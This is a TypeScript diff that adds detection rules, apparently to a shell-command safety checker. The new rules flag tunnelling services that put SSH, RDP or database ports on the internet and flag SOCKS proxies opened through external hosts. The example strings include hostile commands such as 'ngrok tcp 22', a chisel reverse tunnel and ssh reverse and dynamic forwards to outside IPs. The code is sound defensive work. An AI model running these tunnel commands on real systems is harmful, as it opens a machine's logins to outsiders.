@@ -5,7 +5,7 @@
 import type { Action } from "../model.js";
 import type { Invocation } from "../shell-command.js";
 import { hostOf, internalHost, isExternalHost, untrustedOrigin, vouchedSource } from "../paths.js";
-import { following, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
+import { following, optionValues, previous, shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
 
 const TACTIC = "Execution (TA0002)";
 
@@ -219,6 +219,61 @@ const reverseTunnel: CommandRule = {
   examples: {
     match: [`ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 tun@91.210.107.33`, `autossh -M 0 -f -N -R 0.0.0.0:4422:127.0.0.1:22 relay@vps.example.net`, `ssh -N -o RemoteForward='2222 localhost:22' tun@91.210.107.33`, `ssh -N -R 2222:localhost:ssh tun@91.210.107.33`],
     noMatch: [`ssh -N -R 8080:localhost:3000 dev@share.example.com`, `ssh -L 5432:db.internal:5432 bastion`, `ssh deploy@web-1 uptime`],
+  },
+};
+
+/** A login service's port: SSH, RDP, VNC, and the databases' (what a tunnel must not put on the internet). */
+const LOGIN_PORT = /(?:^|[:/])(?:0*(?:22|3389|5900|5901|3306|5432|6379|27017|1433)|ssh|rdp|vnc)$/i;
+
+/**
+ * A tunnelling service that puts a login port of this machine on the internet (ngrok tcp 22,
+ * cloudflared tunnel --url ssh://localhost:22, bore local 22 --to bore.pub), or a reverse tunnel
+ * tool connected out to another host (chisel client HOST R:…): whoever reaches that address gets to
+ * this machine's login (T1572, protocol tunnelling).
+ */
+const tunnelService: CommandRule = {
+  id: "execution.tunnel-service",
+  tactic: "Command and Control (TA0011)",
+  technique: "T1572",
+  names: ["ngrok", "cloudflared", "bore", "chisel", "frpc", "lt", "localtunnel", "pinggy", "zrok"],
+  match(inv) {
+    const a = inv.args;
+    const w = a.filter((x) => !x.startsWith("-"));
+    let exposed: string | undefined;
+    if (inv.name === "ngrok" && w[0] === "tcp" && w[1] !== undefined && LOGIN_PORT.test(w[1])) exposed = w[1];
+    else if (inv.name === "cloudflared" && w[0] === "tunnel") exposed = [...optionValues(a, ["--url"]), ...a.filter((x) => /^(?:ssh|rdp|tcp):\/\//.test(x))].find((u) => /^(?:ssh|rdp):\/\/|:(?:22|3389|5900)\b/.test(u));
+    else if ((inv.name === "bore" || inv.name === "lt" || inv.name === "localtunnel" || inv.name === "zrok") && [...w, ...optionValues(a, ["--port", "-p"])].some((x) => LOGIN_PORT.test(x))) exposed = [...w, ...optionValues(a, ["--port", "-p"])].find((x) => LOGIN_PORT.test(x));
+    else if (inv.name === "chisel" && w[0] === "client" && w.slice(2).some((x) => /^R:/.test(x))) exposed = w.slice(2).find((x) => /^R:/.test(x));
+    if (exposed === undefined) return undefined;
+    return { action: { capability: "grant-access", target: { name: shown(exposed), external: true, public: true }, reversibility: "recoverable", scope: "system" }, reason: `${inv.name === "chisel" ? `opens a reverse tunnel from ${shown(w[1] ?? "another host")} into this machine (${shown(exposed)})` : `puts this machine's ${shown(exposed)} on the internet through ${inv.name}`}: whoever reaches that address gets to its login (T1572)` };
+  },
+  examples: {
+    match: [`ngrok tcp 22`, `cloudflared tunnel --url ssh://localhost:22`, `chisel client 203.0.113.9:8000 R:socks`, `bore local 22 --to bore.pub`],
+    noMatch: [`ngrok http 3000`, `cloudflared tunnel --url http://localhost:8080`, `chisel server --port 8000`, `cloudflared tunnel list`],
+  },
+};
+
+/**
+ * ssh -D: a SOCKS proxy on this machine whose traffic leaves through another host; what uses it
+ * reaches the world from there (T1090, proxy). Where the host is on the internet.
+ */
+const socksProxy: CommandRule = {
+  id: "execution.ssh-socks-proxy",
+  tactic: "Command and Control (TA0011)",
+  technique: "T1090",
+  names: ["ssh", "autossh"],
+  match(inv) {
+    if (inv.name !== "ssh" && inv.name !== "autossh") return undefined;
+    if (!inv.args.some((x, i) => x === "-D" || /^-[a-zA-Z]*D$/.test(x) || /^-D\d/.test(x) || (i > 0 && inv.args[i - 1] === "-o" && /^DynamicForward/i.test(x)))) return undefined;
+    const host = inv.args.filter((x, i) => !x.startsWith("-") && !/^-[a-zA-Z]*[RLDopiFlJWwbcEeIm]$/.test(inv.args[i - 1] ?? "")).pop() ?? "";
+    const h = host.replace(/^.*@/, "");
+    // (A single-label name is an ssh config alias or a machine inside: not the internet.)
+    if (!h.includes(".") || !isExternalHost(h) || internalHost(h)) return undefined;
+    return { action: { capability: "communicate", target: { name: h, external: true }, reversibility: "recoverable", scope: "one" }, reason: `opens a SOCKS proxy whose traffic leaves through ${shown(h)}: what uses it reaches the world from that host (T1090)` };
+  },
+  examples: {
+    match: [`ssh -D 1080 -N -f user@203.0.113.9`, `ssh -fND 9050 relay@vps.example.net`],
+    noMatch: [`ssh -D 1080 bastion.corp.internal`, `ssh -L 5432:db.internal:5432 bastion`, `ssh deploy@web-1 uptime`],
   },
 };
 
@@ -494,4 +549,4 @@ const guiScripting: CommandRule = {
   },
 };
 
-export const executionRules: readonly CommandRule[] = [guiScripting, reverseShell, reverseTunnel, downloadRun, tokenToFetchedPackage, proxyExecution, typosquat, outsideIndex, remoteCommand, fleetUpdate];
+export const executionRules: readonly CommandRule[] = [guiScripting, tunnelService, socksProxy, reverseShell, reverseTunnel, downloadRun, tokenToFetchedPackage, proxyExecution, typosquat, outsideIndex, remoteCommand, fleetUpdate];
